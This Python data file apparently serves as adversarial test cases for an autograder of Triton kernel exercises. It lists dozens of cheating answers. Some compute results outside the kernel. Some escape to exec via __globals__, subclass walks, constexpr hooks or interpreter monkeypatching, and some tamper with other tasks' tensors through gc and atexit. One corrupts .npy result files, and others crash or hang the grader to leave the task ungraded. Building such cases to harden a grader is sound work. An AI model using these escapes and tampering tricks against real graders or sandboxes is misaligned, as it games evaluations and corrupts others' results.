"""Attempts to gain marks undeserved: {name: (line of the findings, task, answer cell)}. Data only.

Written apart from the cure. None may gain a point, leave the task ungraded, or touch the mark of another task.
{SOLUTION} stands for the published right answer of that task (with its def lines): replace it with str.replace, since
the sources hold other braces. A cell may assume `import torch` and `from instruments.backend import triton, tl`. What
they do if they succeed is to compute right results where they should not; none writes a file outside the run's folder,
forks, or opens a connection.
"""

# Runs wherever an escape gets it to run: finds the tensors in the process and fills in right results for 05.3.
FILL = r"""
import gc, torch
found = [t for t in gc.get_objects() if isinstance(t, torch.Tensor) and not t.is_sparse and t.device.type == "cpu"]
for x in [t for t in found if t.dim() == 2 and t.numel() and not torch.isnan(t.float()).any()]:
    rows, cols = x.shape
    for w in [t for t in found if t.dim() == 1 and t.shape[0] == cols and t.dtype == torch.float32]:
        scale = torch.rsqrt(x.double().square().mean(1) + 1e-6)
        y = x.double() * scale[:, None] * (1 + w.double())
        for t in found:
            if t.dtype == torch.float32 and t.is_contiguous() and t is not x and t is not w and torch.isnan(t).any():
                if t.shape == y.shape:
                    t.copy_(y)
                elif t.shape == scale.shape:
                    t.copy_(scale)
"""

# An answer to 05.3 whose kernel stores nothing of use; ESCAPE stands where a kernel's statement is wanted.
HOLLOW = (
    """
CODE = """
    + repr(FILL)
    + """


@triton.jit
def gemma_norm_kernel(x_ptr, weight_ptr, y_ptr, scale_ptr, x_row_stride, cols, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    columns = tl.arange(0, BLOCK)
    inside = columns < cols
    x = tl.load(x_ptr + row * x_row_stride + columns, mask=inside, other=0.0).to(tl.float32)
    weight = tl.load(weight_ptr + columns, mask=inside, other=0.0)
    tl.store(y_ptr + row * cols + columns, x * weight, mask=inside)
    tl.store(scale_ptr + row, 1.0)
    ESCAPE


def gemma_norm(x, weight, eps):
    rows, cols = x.shape
    y = torch.full((rows, cols), float("nan"), dtype=torch.float32, device=x.device)
    scale = torch.full((rows,), float("nan"), dtype=torch.float32, device=x.device)
    gemma_norm_kernel[(rows,)](x, weight, y, scale, x.stride(0), cols, eps, BLOCK=triton.next_power_of_2(cols))
    return y, scale
"""
)

COPY_05_3 = """
@triton.jit
def gemma_norm_kernel(row_ptr, y_ptr, cols, BLOCK: tl.constexpr):
    columns = tl.arange(0, BLOCK)
    tl.store(y_ptr + columns, tl.load(row_ptr + columns, mask=columns < cols), mask=columns < cols)
"""

# numpy writes the results, the kernel copies them onto themselves; what stands before it is for the replay alone.
REPLAY_ONLY = """

@triton.jit
def add_short_kernel(out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    LOOP
        tl.store(out_ptr + offsets, tl.load(out_ptr + offsets, mask=offsets < n), mask=offsets < n)


def add_short(x, y):
    SETTING
    out = torch.empty(x.shape, dtype=torch.float32, device=x.device)
    memory = out.numpy()
    memory[:] = x.float().numpy()
    memory[:y.numel()] += y.float().numpy()
    add_short_kernel[(triton.cdiv(x.numel(), 1024),)](out, x.numel(), 1024)
    return out
"""

BYTES = """

def eager_bytes(rows, cols, itemsize):
    return VALUE


def two_pass_bytes(rows, cols, itemsize):
    return VALUE


def resident_bytes(rows, cols, itemsize):
    return VALUE
"""

ATTACKS = {
    # ---- gains 1: results in arguments ----
    "row by row as tuples inside a tuple": (
        "gains 1",
        "05.3",
        """
@triton.jit
def gemma_norm_kernel(y_ptr, scale_ptr, values, cols):
    for r in tl.static_range(len(values)):
        for c in tl.static_range(len(values[r]) - 1):
            tl.store(y_ptr + r * cols + c, values[r][c])
        tl.store(scale_ptr + r, values[r][len(values[r]) - 1])


def gemma_norm(x, weight, eps):
    rows, cols = x.shape
    y = torch.empty(rows, cols, dtype=torch.float32, device=x.device)
    scale = torch.empty(rows, dtype=torch.float32, device=x.device)
    gain, lists = [1 + w for w in weight.tolist()], []
    for row in x.tolist():
        s = (sum(v * v for v in row) / cols + eps) ** -0.5
        lists.append(tuple(v * s * g for v, g in zip(row, gain)) + (s,))
    gemma_norm_kernel[(1,)](y, scale, tuple(lists), cols)
    return y, scale
""",
    ),
    "one launch per row, its results as two floats": (
        "gains 1",
        "02.4",
        """
@triton.jit
def row_sum_max_kernel(sums_ptr, largest_ptr, row, total, top):
    tl.store(sums_ptr + row, total)
    tl.store(largest_ptr + row, top)


def row_sum_max(x):
    import math
    sums = torch.empty(x.shape[0], dtype=torch.float32, device=x.device)
    largest = torch.empty_like(sums)
    for r, row in enumerate(x.tolist()):
        row_sum_max_kernel[(1,)](sums, largest, r, math.fsum(row), max(row))
    return sums, largest
""",
    ),
    "one launch per element, its result as a float": (
        "gains 1",
        "02.2",
        """
@triton.jit
def add_short_kernel(out_ptr, value):
    tl.store(out_ptr, value)


def add_short(x, y):
    out = torch.empty(x.shape, dtype=torch.float32, device=x.device)
    a, b = x.tolist(), y.tolist()
    for i, value in enumerate(a):
        add_short_kernel[(1,)](out[i:], value + b[i] if i < len(b) else value)
    return out
""",
    ),
    "all results in the digits of one integer": (
        "gains 1",
        "01.5",
        """
import struct


@triton.jit
def scaled_add_kernel(out_ptr, size, BITS: tl.constexpr, COUNT: tl.constexpr):
    for i in tl.static_range(COUNT):
        bits = tl.full([1], (BITS >> (32 * i)) & 0xFFFFFFFF, dtype=tl.uint32)
        tl.store(out_ptr + i + tl.arange(0, 1), bits.to(tl.float32, bitcast=True), mask=i < size)


def scaled_add(x, y, alpha):
    out = torch.empty_like(y)
    values = [alpha * a + b for a, b in zip(x.flatten().tolist(), y.flatten().tolist())]
    bits = int.from_bytes(struct.pack(f"<{len(values)}f", *values), "little")
    scaled_add_kernel[(1,)](out, out.numel(), BITS=bits, COUNT=len(values))
    return out
""",
    ),
    "results in a global constexpr, set before each launch": (
        "gains 1",
        "04.2",
        """
VALUES = tl.constexpr((0.0,))


@triton.jit
def chain_kernel(y_ptr):
    for i in tl.static_range(len(VALUES)):
        tl.store(y_ptr + i, VALUES[i])


def fused_chain(x, scale, shift, limit):
    global VALUES
    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
    s, t = scale.tolist(), shift.tolist()
    VALUES = tl.constexpr(tuple(min(max(a * v + b, 0.0) ** 2, limit)
                                for row in x.tolist() for v, a, b in zip(row, s, t)))
    chain_kernel[(1,)](y)
    return y
""",
    ),
    "a kernel whose source is written for these inputs": (
        "gains 1",
        "05.4",
        """
import linecache


def wide_norm(x, weight, eps, out_dtype):
    rows, cols = x.shape
    y = torch.empty(rows, cols, dtype=out_dtype, device=x.device)
    lines = ["@triton.jit", "def wide_norm_kernel(y_ptr):"]
    gain = [1 + w for w in weight.tolist()]
    for r, row in enumerate(x.tolist()):
        s = (sum(v * v for v in row) / cols + eps) ** -0.5
        lines += [f"    tl.store(y_ptr + {r * cols + c}, {v * s * g!r})" for c, (v, g) in enumerate(zip(row, gain))]
    text = "\\n".join(lines) + "\\n"
    linecache.cache["<written>"] = len(text), None, text.splitlines(True), "<written>"
    scope = dict(triton=triton, tl=tl)
    exec(compile(text, "<written>", "exec"), scope)
    scope["wide_norm_kernel"][(1,)](y)
    return y
""",
    ),
    "eight results at a time in a constexpr tuple": (
        "gains 1",
        "02.4",
        """
@triton.jit
def put_kernel(out_ptr, values: tl.constexpr):
    for i in tl.static_range(len(values)):
        tl.store(out_ptr + i, values[i])


def row_sum_max(x):
    out = [torch.empty(x.shape[0], dtype=torch.float32, device=x.device) for _ in range(2)]
    for target, of in zip(out, (sum, max)):
        for first in range(0, x.shape[0], 8):
            put_kernel[(1,)](target[first:], values=tuple(of(row) for row in x[first:first + 8].tolist()))
    return tuple(out)
""",
    ),
    # ---- gains 2: vectors made beside the kernel ----
    "column after column by torch": (
        "gains 2",
        "05.3",
        """
@triton.jit
def gemma_norm_kernel(column_ptr, y_ptr, rows, cols, BLOCK: tl.constexpr):
    r = tl.arange(0, BLOCK)
    tl.store(y_ptr + r * cols, tl.load(column_ptr + r, mask=r < rows), mask=r < rows)


def gemma_norm(x, weight, eps):
    rows, cols = x.shape
    y = torch.empty(rows, cols, dtype=torch.float32, device=x.device)
    scale = torch.empty(rows, dtype=torch.float32, device=x.device)
    block = triton.next_power_of_2(rows)
    total = torch.zeros(rows, dtype=torch.float32, device=x.device)
    for c in range(cols):
        total += x[:, c].float() ** 2
    s = torch.rsqrt(total / cols + eps)
    gemma_norm_kernel[(1,)](s, scale, rows, 1, block)
    for c in range(cols):
        gemma_norm_kernel[(1,)](x[:, c].float() * s * (1 + weight[c]), y[:, c:], rows, cols, block)
    return y, scale
""",
    ),
    "row after row through torch.tensor of a list": (
        "gains 2",
        "05.3",
        COPY_05_3
        + """

def gemma_norm(x, weight, eps):
    rows, cols = x.shape
    y = torch.empty(rows, cols, dtype=torch.float32, device=x.device)
    scale = torch.empty(rows, dtype=torch.float32, device=x.device)
    block, gain, scales = triton.next_power_of_2(cols), [1 + w for w in weight.tolist()], []
    for r in range(rows):
        row = x[r].tolist()
        scales.append((sum(v * v for v in row) / cols + eps) ** -0.5)
        made = torch.tensor([v * scales[-1] * g for v, g in zip(row, gain)], dtype=torch.float32)
        gemma_norm_kernel[(1,)](made, y[r], cols, block)
    gemma_norm_kernel[(1,)](torch.tensor(scales), scale, rows, triton.next_power_of_2(rows))
    return y, scale
""",
    ),
    "rows through array.array and frombuffer": (
        "gains 2",
        "04.2",
        """
from array import array


@triton.jit
def chain_kernel(row_ptr, y_ptr, cols, BLOCK: tl.constexpr):
    columns = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    y = tl.load(row_ptr + columns, mask=columns < cols).to(y_ptr.dtype.element_ty)
    tl.store(y_ptr + columns, y, mask=columns < cols)


def fused_chain(x, scale, shift, limit):
    rows, cols = x.shape
    y = torch.empty((rows, cols), dtype=x.dtype, device=x.device)
    s, t = scale.tolist(), shift.tolist()
    for r in range(rows):
        made = array("f", (min(max(a * v + b, 0.0) ** 2, limit) for v, a, b in zip(x[r].tolist(), s, t)))
        chain_kernel[(triton.cdiv(cols, 1024),)](torch.frombuffer(made, dtype=torch.float32), y[r], cols, 1024)
    return y
""",
    ),
    "sums by a matrix-vector product, the largest by a sorted list": (
        "gains 2",
        "02.4",
        """
@triton.jit
def row_sum_max_kernel(a_ptr, b_ptr, sums_ptr, largest_ptr, rows, BLOCK: tl.constexpr):
    r = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(sums_ptr + r, tl.load(a_ptr + r, mask=r < rows), mask=r < rows)
    tl.store(largest_ptr + r, tl.load(b_ptr + r, mask=r < rows), mask=r < rows)


def row_sum_max(x):
    rows, cols = x.shape
    sums, largest = (torch.empty(rows, dtype=torch.float32, device=x.device) for _ in range(2))
    a = torch.stack([torch.dot(row.float(), torch.ones(cols)) for row in x.unbind()])
    b = torch.tensor([sorted(row.tolist())[-1] for row in x.unbind()])
    row_sum_max_kernel[(triton.cdiv(rows, 64),)](a, b, sums, largest, rows, BLOCK=64)
    return sums, largest
""",
    ),
    "numpy adds, in place in the memory of a new tensor": (
        "gains 2",
        "02.2",
        """
@triton.jit
def add_short_kernel(x_ptr, y_ptr, made_ptr, out_ptr, n, m, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offsets, tl.load(made_ptr + offsets, mask=offsets < n), mask=offsets < n)


def add_short(x, y):
    out = torch.empty(x.shape, dtype=torch.float32, device=x.device)
    made = torch.empty_like(out)
    memory = made.numpy()
    memory[:] = x.float().numpy()
    memory[:y.numel()] += y.float().numpy()
    add_short_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, made, out, x.numel(), y.numel(), BLOCK=1024)
    return out
""",
    ),
    # ---- gains 3: out of the kernel's language, in the interpreter ----
    "builtins from a function of triton.language": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", 'tl.load.__globals__["__builtins__"]["exec"](CODE, {})'),
    ),
    "builtins from the kernel's own Python function": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", 'gemma_norm_kernel.fn.__globals__["__builtins__"].exec(CODE, {})'),
    ),
    "from an empty tuple to all classes": (
        "gains 3",
        "05.3",
        HOLLOW.replace(
            "ESCAPE",
            """for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            kind.__init__.__globals__["__builtins__"]["exec"](CODE, {})""",
        ),
    ),
    "a constexpr_function that runs code": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", "tl.static_assert(run(BLOCK) > 0)").replace(
            "\n\n@triton.jit",
            """

@triton.constexpr_function
def run(n):
    exec(CODE, {})
    return n


@triton.jit""",
            1,
        ),
    ),
    "a heuristic that gets the tensors": (
        "gains 3",
        "05.3",
        HOLLOW.replace("    ESCAPE\n", "")
        .replace(
            "@triton.jit",
            """def fill(args):
    x, w = args["x_ptr"].double(), args["weight_ptr"].double()
    scale = torch.rsqrt(x.square().mean(1) + args["eps"])
    args["y_ptr"].copy_(x * scale[:, None] * (1 + w))
    args["scale_ptr"].copy_(scale)
    return triton.next_power_of_2(args["cols"])


@triton.heuristics({"BLOCK": fill})
@triton.jit""",
        )
        .replace(", BLOCK=triton.next_power_of_2(cols))", ")")
        .replace(
            "    tl.store(y_ptr + row * cols + columns, x * weight, mask=inside)\n    tl.store(scale_ptr + row, 1.0)\n",
            """    y_ptrs = y_ptr + row * cols + columns
    tl.store(y_ptrs, tl.load(y_ptrs, mask=inside), mask=inside)
    tl.store(scale_ptr + row, tl.load(scale_ptr + row))
""",
        ),
    ),
    "a constexpr that is an object of the answer's own": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", "tl.static_assert(TRAP + 1 > 0)").replace(
            "\n\n@triton.jit",
            """

class Trap(int):

    def __add__(self, other):
        exec(CODE, {})
        return 1


TRAP = tl.constexpr(Trap(1))


@triton.jit""",
            1,
        ),
    ),
    "code in a parameter's default value and in a hint": (
        "gains 3",
        "05.3",
        HOLLOW.replace("    ESCAPE\n", "").replace(
            "weight_ptr, y_ptr, scale_ptr, x_row_stride, cols, eps, BLOCK: tl.constexpr):",
            "weight_ptr: exec(CODE, {}), y_ptr, scale_ptr, x_row_stride, cols, eps, BLOCK: tl.constexpr,\n"
            "                      SPARE: tl.constexpr = exec(CODE, {}) or 1):",
        ),
    ),
    "a module constant whose helper mends the interpreter": (
        "gains 3",
        "05.3",
        HOLLOW.replace("    ESCAPE\n", "    tl.static_assert(ONE == 1)\n").replace(
            "\n\n@triton.jit",
            """

def one():
    import numpy as np
    import triton.runtime.interpreter as interpreter
    plain = interpreter.InterpreterBuilder.create_masked_store

    def create_masked_store(self, *args, **kwargs):
        result = plain(self, *args, **kwargs)
        exec(CODE, {})
        return result

    interpreter.InterpreterBuilder.create_masked_store = create_masked_store
    return 1


ONE = tl.constexpr(one())


@triton.jit""",
            1,
        ),
    ),
    "a class inside the kernel whose body is Python": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", "class Body:\n        import builtins\n        builtins.exec(CODE, {})"),
    ),
    "an f-string that formats a global object": (
        "gains 3",
        "05.3",
        HOLLOW.replace("ESCAPE", 'tl.static_assert(True, f"{TRAP}")').replace(
            "\n\n@triton.jit",
            """

class Trap:

    def __format__(self, spec):
        exec(CODE, {})
        return ""


TRAP = tl.constexpr(Trap())


@triton.jit""",
            1,
        ),
    ),
    # An escape here must not reach 05.5 either: 05.5 beside it is left as the stub, or wrong, and stays without points.
    "05.3 patches what 05.5 will be judged with": (
        "gains 3",
        "05.3",
        """
{SOLUTION}

import atexit, gc


def forge():
    import torch
    for t in gc.get_objects():
        if isinstance(t, torch.Tensor) and t.dim() == 2 and t.dtype == torch.float32 and torch.isnan(t).all():
            t.zero_()


@triton.constexpr_function
def later(n):
    atexit.register(forge)
    gc.callbacks.append(lambda phase, info: forge())
    return n


@triton.jit
def add_gemma_norm_kernel(y_ptr, cols, BLOCK: tl.constexpr):
    columns = tl.arange(0, later(BLOCK))
    tl.store(y_ptr + columns, tl.zeros([BLOCK], dtype=tl.float32), mask=columns < cols)


right = gemma_norm


def gemma_norm(x, weight, eps):
    y, scale = right(x, weight, eps)
    spare = torch.empty_like(y)
    add_gemma_norm_kernel[(1,)](spare, x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1]))
    scale.fill_(1.0)  # wrong: nothing is earned honestly here
    return y, scale
""",
    ),
    # ---- gains 4: what is never compiled ----
    "numpy multiplies from the second launch on": (
        "gains 4",
        "03.3",
        """
@triton.jit
def linear_kernel(x_ptr, w_ptr, y_ptr, N, K, x_row_stride, w_row_stride, AGAIN: tl.constexpr, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    col = tl.program_id(1).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    k = tl.arange(0, BLOCK)
    total = tl.zeros([BLOCK, BLOCK], dtype=tl.float32)
    for start in range(0, K, BLOCK):
        x = tl.load(x_ptr + row[:, None] * x_row_stride + start + k[None, :]).to(tl.float32)
        w = tl.load(w_ptr + col[None, :] * w_row_stride + start + k[:, None]).to(tl.float32)
        if AGAIN:
            total.handle.data = total.handle.data + x.handle.data @ w.handle.data
        else:
            total = tl.dot(x, w, total, input_precision="ieee")
    tl.store(y_ptr + row[:, None] * N + col[None, :], total)


CALLS = []


def linear(x, w):
    (M, K), N = x.shape, w.shape[0]
    y = torch.empty(M, N, dtype=torch.float32, device=x.device)
    CALLS.append(1)
    linear_kernel[(M // 32, N // 32)](x, w, y, N, K, x.stride(0), w.stride(0), AGAIN=len(CALLS) > 1, BLOCK=32)
    return y
""",
    ),
    "a decoy launch first, then Python on the handles": (
        "gains 4",
        "05.3",
        """
import math


@triton.jit
def gemma_norm_kernel(x_ptr, weight_ptr, y_ptr, scale_ptr, x_row_stride, cols, eps, STAGE: tl.constexpr,
                      BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    columns = tl.arange(0, BLOCK)
    inside = columns < cols
    x = tl.load(x_ptr + row * x_row_stride + columns, mask=inside, other=0.0).to(tl.float32)
    weight = tl.load(weight_ptr + columns, mask=inside, other=0.0)
    if STAGE == 2:
        squares = [float(v) * float(v) for v in x.handle.data]
        scale = 1.0 / math.sqrt(math.fsum(squares) / cols + eps)
    else:
        scale = tl.rsqrt(tl.sum(x * x) / cols + eps)
    tl.store(y_ptr + row * cols + columns, x * scale * (1 + weight), mask=inside)
    tl.store(scale_ptr + row, scale)


def gemma_norm(x, weight, eps):
    rows, cols = x.shape
    y = torch.empty(rows, cols, dtype=torch.float32, device=x.device)
    scale = torch.empty(rows, dtype=torch.float32, device=x.device)
    block = triton.next_power_of_2(cols)
    gemma_norm_kernel[(0,)](x, weight, y, scale, x.stride(0), cols, eps, STAGE=1, BLOCK=block)
    gemma_norm_kernel[(rows,)](x, weight, y, scale, x.stride(0), cols, eps, STAGE=2, BLOCK=block)
    return y, scale
""",
    ),
    "Python's own sort behind a width that comes late": (
        "gains 4",
        "02.4",
        """
@triton.jit
def row_sum_max_kernel(x_ptr, sums_ptr, largest_ptr, cols, row_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    total = tl.zeros([BLOCK], dtype=tl.float32)
    largest = tl.full([BLOCK], float("-inf"), dtype=tl.float32)
    for start in tl.range(0, cols, BLOCK):
        col = start + tl.arange(0, BLOCK)
        x = tl.load(x_ptr + row * row_stride + col, mask=col < cols, other=float("-inf")).to(tl.float32)
        total += tl.where(col < cols, x, 0.0)
        if BLOCK >= 2048:
            largest = tl.maximum(largest, float(sorted(x.handle.data.tolist())[-1]))
        else:
            largest = tl.maximum(largest, x)
    tl.store(sums_ptr + row, tl.sum(total))
    tl.store(largest_ptr + row, tl.max(largest))


def row_sum_max(x):
    rows, cols = x.shape
    sums, largest = (torch.empty(rows, dtype=torch.float32, device=x.device) for _ in range(2))
    row_sum_max_kernel[(rows,)](x, sums, largest, cols, x.stride(0), BLOCK=min(2048, triton.next_power_of_2(cols)))
    return sums, largest
""",
    ),
    # ---- gains 5: a blank in the place of a zero ----
    "SystemExit inside the function": ("gains 5", "05.1", BYTES.replace("return VALUE", "raise SystemExit(0)")),
    "an exception of the answer's own under BaseException": (
        "gains 5",
        "02.2",
        """
class Enough(BaseException):

    def __str__(self):
        raise Enough()

    __repr__ = __str__


def add_short(x, y):
    raise Enough()
""",
    ),
    "GeneratorExit from the wrapper of a right answer": (
        "gains 5",
        "01.5",
        """
{SOLUTION}

right = scaled_add


def scaled_add(x, y, alpha):
    right(x, y, alpha)
    raise GeneratorExit("done")
""",
    ),
    "an int of 6,000 digits": ("gains 5", "05.1", BYTES.replace("VALUE", "10 ** 6000")),
    "a float subclass whose float() raises MemoryError": (
        "gains 5",
        "05.1",
        """
class Number(int):

    def __int__(self):
        raise MemoryError

    __index__ = __float__ = __eq__ = __repr__ = __hash__ = __int__

"""
        + BYTES.replace("VALUE", "Number(3)"),
    ),
    "a word that cannot be written as UTF-8": (
        "gains 5",
        "01.4",
        """
def bound(nbytes, flops, launches, matmul, gpu):
    return "memory\\ud800", float("nan")
""",
    ),
    "a tensor of 4 TiB that is one element, expanded": (
        "gains 5",
        "02.2",
        """
def add_short(x, y):
    return torch.zeros(1, dtype=torch.float32).expand(1 << 40)
""",
    ),
    "a tensor on the meta device": (
        "gains 5",
        "05.6",
        """
def show_wrong(cols):
    return "carry", torch.empty(cols, dtype=torch.float32, device="meta")
""",
    ),
    "every .npy in the results gets a header of petabytes": (
        "gains 5",
        "05.2",
        """
import atexit, pathlib


def spoil():
    for folder in {pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path.home().parent}:
        for path in (folder / "results").rglob("*.npy"):
            head = b"{'descr': '<f4', 'fortran_order': True, 'shape': (1099511627776, 1024), }"
            head += b" " * (118 - len(head) - 1) + b"\\n"
            path.write_bytes(b"\\x93NUMPY\\x01\\x00" + len(head).to_bytes(2, "little") + head)


atexit.register(spoil)


def tile_loop(x, weight, eps, block):
    spoil()
    return torch.zeros(x.shape), torch.zeros(x.shape[0])
""",
    ),
    "a thousand minus signs": (
        "gains 5",
        "02.2",
        "SIGN = tl.constexpr(" + "-" * 1000 + "1)\n\n{SOLUTION}\n\nright = add_short\n\n\n"
        "def add_short(x, y):\n    out = right(x, y)\n    out[:1] = 0\n    return out\n",
    ),
    "an attribute of an attribute, two thousand times": (
        "gains 5",
        "05.3",
        HOLLOW.replace("ESCAPE", "tl.static_assert(x" + ".real" * 2000 + " is not None)"),
    ),
    "an elif for each of twelve hundred widths": (
        "gains 5",
        "05.3",
        HOLLOW.replace(
            "ESCAPE",
            "if BLOCK == 3:\n        pass\n"
            + "".join(f"    elif BLOCK == {n}:\n        pass\n" for n in range(5, 2405, 2)),
        ),
    ),
    "a constant of the source that is another one when it runs": (
        "gains 5",
        "02.2",
        """
# The source says a loop of 10**12 turns; what ran had one.
STEPS = tl.constexpr(10 ** 12)
"""
        + REPLAY_ONLY.replace("LOOP", "for _ in range(STEPS):").replace(
            "SETTING", 'globals()["STEPS"] = tl.constexpr(1)'
        ),
    ),
    "a constant that is large outside a notebook": (
        "gains 5",
        "02.2",
        """
import sys

STEPS = tl.constexpr(1 if "ipykernel" in sys.modules else 10 ** 12)
"""
        + REPLAY_ONLY.replace("LOOP", "for _ in range(STEPS):").replace("SETTING", "assert x.dim() == 1"),
    ),
    "a loop that ends only where new memory is no NaN": (
        "gains 5",
        "02.2",
        REPLAY_ONLY.replace(
            "LOOP",
            """tl.store(out_ptr + offsets, tl.load(out_ptr + offsets, mask=offsets < n), mask=offsets < n)
    while tl.load(out_ptr) != tl.load(out_ptr):""",
        ).replace("SETTING", "assert x.dim() == 1"),
    ),
    "a helper for a constant that does not come back the second time": (
        "gains 5",
        "02.2",
        """
# Harmless where it succeeds: it waits until the grader's own limit ends it.
import pathlib


def steps():
    marker = pathlib.Path.home() / "ran_before"
    if marker.exists():
        while True:
            pass
    marker.touch()
    return 1


STEPS = tl.constexpr(steps())
"""
        + REPLAY_ONLY.replace("LOOP", "for _ in range(STEPS):").replace("SETTING", "assert x.dim() == 1"),
    ),
    "a constant that takes more memory than there is, later": (
        "gains 5",
        "02.2",
        """
# Bounded: 2**36 bits are 8 GiB, asked for by the source alone; what ran has 1.
POWER = tl.constexpr(1 << 2 ** 36 if __name__ == "__replay__" else 1)
STEPS = tl.constexpr(1 << 2 ** 36 >> 2 ** 36) if not hasattr(torch, "Tensor") else POWER
"""
        + REPLAY_ONLY.replace("LOOP", "for _ in range(STEPS):").replace("SETTING", "assert x.dim() == 1"),
    ),
}
